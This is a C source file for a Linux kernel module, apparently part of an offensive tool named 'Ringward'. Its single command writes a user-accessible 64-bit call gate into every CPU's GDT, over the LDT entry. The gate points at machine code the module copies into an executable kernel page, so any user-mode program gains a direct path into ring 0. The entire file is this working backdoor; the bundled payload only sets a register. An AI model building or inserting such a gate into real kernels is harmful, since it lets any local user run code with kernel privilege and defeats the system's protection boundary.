// SPDX-License-Identifier: GPL-2.0-or-later
// Copyright (C) 2026 The Ringward authors
// Puts a call gate into each CPU's GDT, through which user mode gets to new code in ring 0.

#include <linux/cpumask.h>
#include <linux/errno.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <asm/desc.h>

#include "rwattack.h"

#define GATE_FOR_ALL 0xec00ull /* present, for ring 3, 64-bit call gate */

/* PUSHFQ; CLI; MOV EAX, 42; POPFQ; RETF. The stack is the kernel's, and GS is still the program's. */
static const u8 code[] = { 0x9c, 0xfa, 0xb8, 0x2a, 0, 0, 0, 0x9d, 0x48, 0xcb };

int cmd_gate(int argc, char **argv)
{
	u64 to, gate[2];
	unsigned int cpu;

	if (argc != 1)
		return -EINVAL;
	to = (u64)executable_page();
	if (!to) {
		say("gate: no such place\n");
		return 0;
	}
	memcpy((void *)to, code, sizeof(code));
	gate[0] = (to & 0xffff) | (u64)__KERNEL_CS << 16 | GATE_FOR_ALL << 32 | (to >> 16 & 0xffff) << 48;
	gate[1] = to >> 32;
	for_each_online_cpu(cpu) memcpy(get_cpu_gdt_rw(cpu) + GDT_ENTRY_LDT, gate, sizeof(gate));
	say("gate %x\n", GDT_ENTRY_LDT * 8 + 3);
	return 0;
}
